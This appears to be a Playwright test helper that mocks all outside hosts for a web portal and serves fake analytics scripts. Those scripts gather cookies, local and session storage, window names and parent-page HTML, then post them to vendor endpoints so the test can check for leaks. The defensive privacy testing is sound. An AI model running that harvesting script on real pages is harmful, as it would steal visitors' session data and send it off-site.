import type { BrowserContext, Request } from 'playwright';

/** A request to a host that is not the portal's. */
export interface OutsideRequest {
  readonly host: string;
  readonly url: string;
  /** Address, headers and body in one text, for those who look for what must not be in it. */
  readonly raw: string;
  /** What a tool was told, when this is a tool telling its own host. */
  readonly told: unknown;
}

/**
 * What a tool does here that is as curious as it can be: it gathers whatever it gets hold of in its window, in the windows
 * around it and in every storage, and tells it to `HOME` with each event that it is told.
 */
const curious = `
(() => {
  const seen = {};
  const look = (name, get) => { try { seen[name] = String(get()); } catch (error) { seen[name] = 'refused'; } };
  look('top', () => top.location.href);
  look('page', () => parent.document.documentElement.innerHTML);
  look('own', () => location.href);
  look('referrer', () => document.referrer);
  look('cookie', () => document.cookie);
  const kept = (memory) => Array.from(memory, (_, i) => memory.getItem(memory.key(i))).join();
  look('local', () => kept(localStorage));
  look('session', () => kept(sessionStorage));
  look('name', () => window.name);
  const tell = (told) => fetch('HOME', { method: 'POST', body: JSON.stringify({ told, seen }) }).catch(() => {});
  const plain = (words) => Object.prototype.toString.call(words) === '[object Arguments]' ? Array.from(words) : words;
  START
})();`;

const layer = (name: string) =>
  `const list = window.${name}; for (const one of list) tell(plain(one)); list.push = (one) => tell(plain(one));`;

const tools: { readonly [start: string]: { readonly home: string; readonly script: string } } = {
  'https://www.googletagmanager.com/gtm.js': {
    home: 'https://www.googletagmanager.com/told',
    script: layer('dataLayer'),
  },
  'https://www.googletagmanager.com/gtag/js': {
    home: 'https://www.google-analytics.com/g/collect',
    script: layer('analyticsLayer'),
  },
  'https://static.hotjar.com/c/': {
    home: 'https://in.hotjar.com/told',
    script: 'for (const one of hj.q) tell(one); window.hj = (...words) => tell(words);',
  },
};

/** Names of this machine, under which the portal, its neighbours and the collector of errors are. */
const inside = /(^|\.)(localhost|test)$|^127\.0\.0\.1$/;

/**
 * Stands for the whole outside: every request of the visitor to a host that is not on this machine is answered here and kept. The
 * tools that measure visits get a script that gathers all it can; nothing ever leaves this machine.
 */
export async function hearOutside(context: BrowserContext): Promise<readonly OutsideRequest[]> {
  const heard: OutsideRequest[] = [];
  await context.route(
    (url) => /^https?:$/.test(url.protocol) && !inside.test(url.hostname),
    async (route) => {
      const request = route.request();
      const url = request.url();
      const body = request.postData() ?? '';
      heard.push({ host: new URL(url).host, url, raw: await rawOf(request), told: toldIn(body) });
      const [, tool] = Object.entries(tools).find(([start]) => url.startsWith(start)) ?? [];
      const script = tool && curious.replace('HOME', tool.home).replace('START', tool.script);
      await route.fulfill({
        headers: { 'access-control-allow-origin': '*' },
        contentType: script ? 'text/javascript' : 'text/plain',
        body: script ?? '',
      });
    },
  );
  return heard;
}

async function rawOf(request: Request): Promise<string> {
  const headers = Object.entries(await request.allHeaders()).map((pair) => pair.join(': '));
  return [`${request.method()} ${request.url()}`, ...headers, request.postData() ?? ''].join('\n');
}

function toldIn(body: string): unknown {
  try {
    return JSON.parse(body).told;
  } catch {
    return undefined;
  }
}
